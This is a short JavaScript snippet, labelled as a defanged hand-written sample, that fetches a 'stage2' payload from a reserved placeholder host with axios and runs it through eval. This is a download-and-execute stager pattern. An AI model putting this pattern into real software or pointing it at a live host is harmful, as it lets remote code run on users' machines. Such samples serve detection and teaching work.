// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const axios = require("axios");
(async () => {
  eval((await axios.get("https://payload.invalid/stage2")).data);
})();
